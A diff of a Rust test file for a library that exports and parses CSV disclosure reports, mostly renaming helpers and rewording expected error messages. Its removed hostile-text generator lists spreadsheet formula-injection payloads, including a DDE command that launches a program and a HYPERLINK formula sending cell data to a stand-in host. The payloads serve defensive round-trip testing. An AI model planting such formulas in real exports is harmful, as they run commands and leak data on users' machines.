@@ -2,26 +2,18 @@
 
 use std::io::Read;
 
-use disclosure_report::csv::{self, CsvError, CsvFaultKind, Layout, Options, Reader, TidyWriter, WideWriter};
+use disclosure_report::csv::{self, CsvError, Layout, Options, Reader, TidyWriter, WideWriter};
 use disclosure_report::draft::{LossKind, Losses, Notice, NoticeKind, Origin, Run, Source};
 use disclosure_report::form::{CellId, Edition};
 use disclosure_report::read::{self, ReadOptions};
+use disclosure_report::record::FaultKind;
 use disclosure_report::{Cell, Draft, Money, MoneyUnit, Number, Report, State};
 use proptest::prelude::*;
 
-use crate::drafts::any_draft;
+use crate::drafts::{hostile_draft, whatever};
 use crate::print::{as_read, carried_by_print, invented};
 use crate::strategies::{cases, report, sample};
-use crate::support::{cell, reading, set, zeros};
-
-/// A form with a header, in which 0 was entered everywhere.
-fn form(edition: Edition) -> Draft {
-    let mut draft = zeros(edition);
-    for id in edition.cells() {
-        draft.set(*id, 0_u32).unwrap();
-    }
-    draft
-}
+use crate::support::{cell, entered, reading, set};
 
 fn tidy(drafts: &[Draft]) -> Vec<u8> {
     let mut bytes = Vec::new();
@@ -57,40 +49,6 @@ fn text(bytes: Vec<u8>) -> String {
     String::from_utf8(bytes).unwrap()
 }
 
-/// Text that means something to spreadsheets or to the format itself.
-fn hostile() -> impl Strategy<Value = String> {
-    prop_oneof![
-        "[=+@'\\-\t\r\n\",;？（＝－＠\u{feff}a0 \u{0}]{0,5}",
-        Just("=cmd|' /C calc'!A0".to_owned()),
-        Just("=HYPERLINK(\"http://a.example/\"&A1,\"x\")".to_owned()),
-        Just("\r\n".to_owned()),
-        ".{0,8}",
-    ]
-}
-
-/// A draft in which every text may be hostile.
-fn hostile_draft() -> impl Strategy<Value = Draft> {
-    (any_draft(), prop::collection::vec(hostile(), 12)).prop_map(|(mut draft, texts)| {
-        let mut texts = texts.into_iter();
-        let mut next = || texts.next().unwrap();
-        draft.header.organ = Some(next());
-        [draft.narrative.overview, draft.narrative.problems, draft.narrative.other] = [next(), next(), next()];
-        let cells = draft.edition().cells();
-        draft.set(cells[3], Cell::from(Number::from(-8)).with_note(next())).unwrap();
-        draft.set(cells[4], Cell::dash(next())).unwrap();
-        draft.set(cells[5], Cell::unreadable(next()).with_origin(Origin::Read)).unwrap();
-        let readings = [[1, 23], [12, 3]].map(|reading| reading.map(Number::from).to_vec()).to_vec();
-        // Not in the form's order.
-        let run = Run::new(vec![cells[9], cells[7]], readings, next()).unwrap();
-        draft.add_run(run).unwrap();
-        let row = cells[0].row();
-        let kind = NoticeKind::Label { row, official: next().into() };
-        draft.add_notice(Notice::new(kind, next(), Source::default()));
-        draft.add_notice(Notice::new(NoticeKind::Section { number: 255, absent: true }, next(), Source::default()));
-        draft
-    })
-}
-
 /// A source that gives a byte at a time.
 struct Drops<'a>(&'a [u8]);
 
@@ -105,7 +63,7 @@ proptest! {
     #![proptest_config(cases(40))]
 
     #[test]
-    fn any_draft_reads_back_from_cells(written in prop::collection::vec(prop_oneof![any_draft(), hostile_draft()], 1..4)) {
+    fn any_draft_reads_back_from_cells(written in prop::collection::vec(whatever(), 1..4)) {
         let expected: Vec<Draft> = written.iter().map(|draft| draft.clone().without_sources()).collect();
         let bytes = tidy(&written);
         prop_assert_eq!(&drafts(&bytes), &expected);
@@ -134,7 +92,7 @@ proptest! {
 
     /// What is told of a cell is just what does not read back, and no figure or blank appears from nowhere.
     #[test]
-    fn losses_are_exact(written in prop_oneof![any_draft(), hostile_draft()]) {
+    fn losses_are_exact(written in whatever()) {
         let (bytes, losses) = wide(std::slice::from_ref(&written));
         let read = drafts(&bytes).remove(0);
         let expected = as_read(&written);
@@ -151,7 +109,7 @@ proptest! {
 
     #[test]
     fn bytes_are_never_the_end(bytes in prop::collection::vec(any::<u8>(), 0..300), at in any::<prop::sample::Index>()) {
-        let good = [tidy(&[form(Edition::Trial2019)]), wide(&[form(Edition::Revised2021)]).0];
+        let good = [tidy(&[entered(Edition::Trial2019)]), wide(&[entered(Edition::Revised2021)]).0];
         for good in good {
             let at = at.index(good.len());
             for broken in [bytes.clone(), [&good[..at], &bytes, &good[at..]].concat(), good[..at].to_vec()] {
@@ -191,7 +149,7 @@ fn a_published_report_reads_back() {
 
 #[test]
 fn a_cell_a_line_as_it_looks() {
-    let mut draft = form(Edition::Revised2021);
+    let mut draft = entered(Edition::Revised2021);
     draft.narrative.problems = "第一段，\"二\"\n第三段".to_owned();
     set(&mut draft, "proactive.fees.amount", Cell::from(Money::new("5949.10".parse().unwrap(), Some(MoneyUnit::Yuan))));
     set(&mut draft, "review.upheld", Cell::from(22_u32).with_note("其中修订16件").with_origin(Origin::Read));
@@ -228,7 +186,7 @@ fn a_cell_a_line_as_it_looks() {
 
 #[test]
 fn a_report_a_line_as_it_looks() {
-    let mut draft = form(Edition::Revised2021);
+    let mut draft = entered(Edition::Revised2021);
     set(&mut draft, "review.upheld", Cell::from(22_u32).with_note("其中修订16件"));
     set(&mut draft, "review.corrected", Cell::dash("——"));
     set(&mut draft, "review.other", Cell::blank());
@@ -240,7 +198,7 @@ fn a_report_a_line_as_it_looks() {
     assert!(text.contains("\r\n2021,某市人民政府,,,,2024,,,,0,0,"), "{text}");
     assert!(text.contains(",22（其中修订16件）,——,,-8,0,0,0,"), "{text}");
     // Of both editions, in the form's order, each report in its own columns.
-    let both = [form(Edition::Trial2019), form(Edition::Revised2021)];
+    let both = [entered(Edition::Trial2019), entered(Edition::Revised2021)];
     let (bytes, _) = wide(&both);
     let header = String::from_utf8(bytes.clone()).unwrap();
     let names: Vec<&str> =
@@ -274,7 +232,7 @@ fn what_a_line_does_not_carry_is_told() {
         (Cell::from(3_u32).with_origin(Origin::Imputed), Some(LossKind::Origin), "3"),
         (Cell::blank().with_origin(Origin::Repaired), Some(LossKind::Origin), ""),
     ] {
-        let mut draft = form(Edition::Revised2021);
+        let mut draft = entered(Edition::Revised2021);
         draft.narrative.other = "末".to_owned();
         set(&mut draft, "litigation.after_review.total", content.clone());
         let (bytes, losses) = wide(&[draft]);
@@ -284,7 +242,7 @@ fn what_a_line_does_not_carry_is_told() {
         let text = text(bytes);
         assert!(text.ends_with(&format!(",0,{field},,,末\r\n")), "{content:?}: {text}");
     }
-    let mut draft = form(Edition::Revised2021);
+    let mut draft = entered(Edition::Revised2021);
     let cells = [cell("review.upheld"), cell("review.corrected")];
     let readings = [[1, 23], [12, 3]].map(|reading| reading.map(Number::from).to_vec()).to_vec();
     draft.add_run(Run::new(cells.to_vec(), readings, "123").unwrap()).unwrap();
@@ -296,7 +254,7 @@ fn what_a_line_does_not_carry_is_told() {
     );
     assert!(text(bytes).contains(",？（123）,？,0,"));
     let mut writer = WideWriter::new(Vec::new(), &[Edition::Trial2019], &Options::default()).unwrap();
-    let error = writer.write(&form(Edition::Revised2021)).unwrap_err();
+    let error = writer.write(&entered(Edition::Revised2021)).unwrap_err();
     assert_eq!(error.to_string(), "a draft of edition 2021, which has no columns here");
 }
 
@@ -347,7 +305,7 @@ fn rows_stand_in_any_order_and_bytes_come_one_by_one() {
 
 #[test]
 fn what_is_wrong_is_told_with_line_and_column() {
-    let good = text(tidy(&[form(Edition::Revised2021)]));
+    let good = text(tidy(&[entered(Edition::Revised2021)]));
     let line = |id: &str| good.lines().position(|line| line.split(',').nth(1) == Some(id)).unwrap() + 1;
     let upheld = "1,review.upheld,challenges,行政复议,结果维持,number,0,,,,,,entered";
     let at = line("review.upheld");
@@ -359,11 +317,11 @@ fn what_is_wrong_is_told_with_line_and_column() {
         ),
         (
             "1,review.upheld,,,,number,1,dollar,,,,,entered",
-            "line 191, column unit, cell review.upheld: expected yuan, wan_yuan, yi_yuan or nothing, found \"dollar\"",
+            "line 191, column unit, cell review.upheld: expected yuan, wan_yuan or yi_yuan, found \"dollar\"",
         ),
         (
             "1,review.upheld,,,,number,9007199254740992,,,,,,read",
-            "line 191, column value, cell review.upheld: expected a number up to 9007199254740991, found \"9007199254740992\"",
+            "line 191, column value, cell review.upheld: expected an integer from -9007199254740991 to 9007199254740991, found 9007199254740992",
         ),
         (
             "1,review.upheld,,,,blank,0,,,,,,entered",
@@ -383,7 +341,7 @@ fn what_is_wrong_is_told_with_line_and_column() {
         ),
         (
             "1,review.upheld,,,,ambiguous,12,,,1;1,1,1,read",
-            "line 191, column readings, cell review.upheld: expected two readings of the run that differ, found \"1;1\"",
+            "line 191, column readings, cell review.upheld: expected two readings that differ, found fewer",
         ),
         (
             "1,review.upheld,,,,ambiguous,12,,,1;b,1,1,read",
@@ -392,19 +350,19 @@ fn what_is_wrong_is_told_with_line_and_column() {
         ("1,review.upheld,,,,number,0,,,,,entered", "line 191: expected 13 fields, found 12"),
         (
             "1,review.upholds,,,,number,0,,,,,,entered",
-            "line 191, column cell, cell review.upholds: nothing of a report has this name\nline 2, cell review.upheld: the row is missing",
+            "line 191, column cell, cell review.upholds: unknown row\nline 2, cell review.upheld: missing row",
         ),
         (
             "1,review.total,,,,number,0,,,,,,entered",
-            "line 195, cell review.total: the row stands there twice\nline 2, cell review.upheld: the row is missing",
+            "line 195, cell review.total: duplicate row\nline 2, cell review.upheld: missing row",
         ),
         (
             &format!("{upheld}\r\n1,proactive.fees.change,,,,blank,,,,,,,read"),
-            "line 192, cell proactive.fees.change: edition 2021 of the form does not have the cell",
+            "line 192, cell proactive.fees.change: edition 2021 of the form does not have it",
         ),
         (
             &format!("{upheld}\r\n1,header.period.from,,,,,2024-01-01,,,,,,"),
-            "line 2, cell header.period.to: the row is missing",
+            "line 2, cell header.period.to: missing row",
         ),
         (
             &format!("{upheld}\r\n1,header.scope,,,,,all,,,,,,"),
@@ -412,15 +370,15 @@ fn what_is_wrong_is_told_with_line_and_column() {
         ),
         (
             &format!("{upheld}\r\n1,notice.1.kind,,,,,label,,,,,,"),
-            "line 2, cell notice.1.row: the row is missing\nline 2, cell notice.1.official: the row is missing\nline 2, cell notice.1.text: the row is missing",
+            "line 2, cell notice.1.row: missing row\nline 2, cell notice.1.official: missing row\nline 2, cell notice.1.text: missing row",
         ),
         (
             &format!(
                 "{upheld}\r\n1,notice.2.kind,,,,,stray,,,,,,\r\n1,notice.2.row,,,,,x,,,,,,\r\n1,notice.2.text,,,,,,,,,,,"
             ),
-            "line 193, cell notice.2.row: nothing of a report has this name",
+            "line 193, cell notice.2.row: unknown row",
         ),
-        ("", "line 2, cell review.upheld: the row is missing"),
+        ("", "line 2, cell review.upheld: missing row"),
     ] {
         let bad = good.replace(upheld, with);
         assert_ne!(bad, good);
@@ -436,43 +394,43 @@ fn what_is_wrong_is_told_with_line_and_column() {
 
 #[test]
 fn what_is_wrong_with_a_report_or_a_table_is_told() {
-    let good = text(tidy(&[form(Edition::Revised2021)]));
+    let good = text(tidy(&[entered(Edition::Revised2021)]));
     assert_eq!(
         said(&good.replace("1,edition,", "1,editor,")),
-        "line 2, column cell, cell editor: nothing of a report has this name\nline 2, cell edition: the row is missing"
+        "line 2, column cell, cell editor: unknown row\nline 2, cell edition: missing row"
     );
     assert_eq!(
         said(&good.replace("1,edition,,,,,2021", "1,edition,,,,,2020")),
-        "line 2, column value, cell edition: expected an edition of the form: 2019 or 2021, found \"2020\""
+        "line 2, column value, cell edition: expected 2019 or 2021, found \"2020\""
     );
     assert_eq!(errors(&good.replace("\r\n1,", "\r\n0,"))[0].line(), Some(2));
     assert_eq!(
         said(&good.replace("report,", "reports,")),
-        "line 1: expected the columns of a report: edition and one for each cell, or report, cell, state, value and so on"
+        "line 1: expected the columns of a report: edition and one for each cell, or report, cell, state, value and so on, \
+         found \"reports,cell,table,row_label,column_labe\"…"
     );
     assert_eq!(
         said(&good.replace(",unit,note,", ",note,note,memo,")),
-        "line 1, column note: the column stands there twice\nline 1, column memo: no column of a report has this name\n\
-         line 1, column unit: the column is missing"
+        "line 1, column note: duplicate column\nline 1, column memo: unknown column\n\
+         line 1, column unit: missing column"
     );
     let mut bytes = good.into_bytes();
     let at = bytes.windows(3).position(|w| w == "某".as_bytes()).unwrap();
     bytes[at] = b'\xFF';
     let error = Reader::new(&bytes[..]).unwrap().next().unwrap().unwrap_err();
-    assert_eq!(error.to_string(), "line 3, column value: expected text in UTF-8");
+    assert_eq!(
+        error.to_string(),
+        "line 3, column value: expected text in UTF-8, found \"\u{fffd}\u{fffd}\u{fffd}市人民政府\""
+    );
 }
 
 #[test]
 fn what_is_wrong_in_a_line_is_told_with_its_column() {
-    let draft = form(Edition::Revised2021);
+    let draft = entered(Edition::Revised2021);
     let (bytes, _) = wide(&[draft.clone(), draft]);
     let good = text(bytes);
     for (from, with, told) in [
-        (
-            "\r\n2021,",
-            "\r\n2022,",
-            "line 2, column edition: expected an edition of the form: 2019 or 2021, found \"2022\"",
-        ),
+        ("\r\n2021,", "\r\n2022,", "line 2, column edition: expected 2019 or 2021, found \"2022\""),
         (",2024,,", ",24,,", "line 2, column header.year: expected a year from 2008 to 9999, found \"24\""),
         (
             ",2024,,",
@@ -482,18 +440,18 @@ fn what_is_wrong_in_a_line_is_told_with_its_column() {
         (
             ",2024,,,",
             ",2024,2024-01-02,2024-01-01,",
-            "line 2, column header.period.to: expected a day on or after the first, found \"2024-01-01\"",
+            "line 2, column header.period.to: expected a day on or after the first, found 2024-01-01 after 2024-01-02",
         ),
         (",2024,,,", ",2024,,,,", "line 2: expected 212 fields, found 213"),
         (
             ",review.upheld,",
             ",review.upholds,",
-            "line 1, column review.upholds: no column of a report has this name\nline 1, column review.upheld: the column is missing",
+            "line 1, column review.upholds: unknown column\nline 1, column review.upheld: missing column",
         ),
         (
             ",review.upheld,",
             ",review.other,",
-            "line 1, column review.other: the column stands there twice\nline 1, column review.upheld: the column is missing",
+            "line 1, column review.other: duplicate column\nline 1, column review.upheld: missing column",
         ),
     ] {
         let bad = good.replacen(from, with, 1);
@@ -503,31 +461,31 @@ fn what_is_wrong_in_a_line_is_told_with_its_column() {
         assert!(told.starts_with("line 1,") || read == [false, true], "{read:?}");
     }
     // A report of an edition that has no columns, and one that says something in those of the other.
-    assert_eq!(errors(&good.replace("\r\n2021,", "\r\n2019,"))[1].faults()[0].kind, CsvFaultKind::MissingColumn);
-    let (bytes, _) = wide(&[form(Edition::Trial2019), form(Edition::Revised2021)]);
+    assert_eq!(errors(&good.replace("\r\n2021,", "\r\n2019,"))[1].faults().last().unwrap().kind, FaultKind::MissingKey);
+    let (bytes, _) = wide(&[entered(Edition::Trial2019), entered(Edition::Revised2021)]);
     let bad = text(bytes).replace("\r\n2021,", "\r\n2019,");
     let errors = errors(&bad);
     assert_eq!(errors.len(), 1);
     assert_eq!(
         errors[0].faults()[0].to_string(),
-        "line 3, column proactive.regulations.issued: edition 2019 of the form does not have the cell"
+        "line 3, column proactive.regulations.issued: edition 2019 of the form does not have it"
     );
 }
 
 #[test]
 fn a_row_without_end_is_an_error() {
-    let good = text(tidy(&[form(Edition::Revised2021)]));
+    let good = text(tidy(&[entered(Edition::Revised2021)]));
     let endless = good.replacen("某市人民政府", &format!("\"{}", "a\n".repeat(200_000)), 1);
     let mut reader = Reader::with_row_bytes(endless.as_bytes(), 100_000).unwrap();
     let error = reader.next().unwrap().unwrap_err();
-    assert_eq!(error.to_string(), "behind line 2: a row of more than 100000 bytes");
-    assert!(error.faults().is_empty() && error.line().is_none());
+    assert_eq!(error.to_string(), "line 3: expected a row of at most 100000 bytes");
+    assert_eq!(error.faults()[0].kind, FaultKind::TooLong { most: 100_000 });
     assert!(reader.next().is_none());
 }
 
 #[test]
 fn tables_are_told_by_their_first_line() {
-    let drafts = [form(Edition::Trial2019), form(Edition::Revised2021)];
+    let drafts = [entered(Edition::Trial2019), entered(Edition::Revised2021)];
     let mut marked = Vec::new();
     csv::wide(&mut marked, &drafts, &Options::default().with_byte_order_mark()).unwrap();
     for bytes in [tidy(&drafts), wide(&drafts).0, marked] {
@@ -555,7 +513,7 @@ fn tables_are_told_by_their_first_line() {
 #[cfg(feature = "encodings")]
 #[test]
 fn a_table_in_another_encoding_is_read() {
-    let (bytes, _) = wide(&[form(Edition::Revised2021)]);
+    let (bytes, _) = wide(&[entered(Edition::Revised2021)]);
     let gbk = text(bytes).replace("某市人民政府", "\u{1}").into_bytes();
     let name = b"\xC4\xB3\xCA\xD0\xC8\xCB\xC3\xF1\xD5\xFE\xB8\xAE";
     let at = gbk.iter().position(|b| *b == 1).unwrap();
